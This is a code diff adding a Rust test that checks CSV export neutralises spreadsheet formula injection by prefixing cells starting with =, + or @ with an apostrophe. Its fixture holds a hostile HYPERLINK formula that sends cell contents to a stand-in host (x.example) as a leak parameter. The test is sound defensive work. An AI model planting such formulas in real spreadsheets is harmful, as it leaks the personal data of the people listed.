@@ -274,6 +274,28 @@ mod scenarios {
         assert_eq!(odd_person.skills.0[0].label, "a|b");
         assert_eq!(odd_person.skills.0[1].label, "[x]");
         assert_eq!(odd_person.skills.0[2].label, "plain \\ text");
+        // Text a spreadsheet would run as a formula: exported with a leading `'`, read back
+        // without it.
+        let formula = "external_ref,given_name,family_name,lon,lat,mobility,max_trip_minutes,hours_per_week\n\
+            @R-9,\"=HYPERLINK(\"\"http://x.example/?leak=\"\"&D2&E2,\"\"Dossier\"\")\",+Smith,6.13,49.61,car,30,20\n";
+        import(&store, Kind::Beneficiaries, formula.as_bytes(), Some(lu))
+            .await
+            .unwrap();
+        let exported =
+            String::from_utf8(export(&store, Kind::Beneficiaries, Some(lu)).await).unwrap();
+        assert!(exported.contains("'@R-9,"), "{exported}");
+        assert!(exported.contains("\"'=HYPERLINK("), "{exported}");
+        assert!(exported.contains(",'+Smith,"), "{exported}");
+        let mut reader = csv::Reader::from_reader(exported.as_bytes());
+        for record in reader.records() {
+            for cell in record.unwrap().iter() {
+                assert!(
+                    !cell.starts_with(['=', '+', '@'])
+                        && (!cell.starts_with('-') || cell.parse::<f64>().is_ok()),
+                    "a cell a spreadsheet would run: {cell}"
+                );
+            }
+        }
 
         let before_people = people(&store).await;
         let before_openings = store
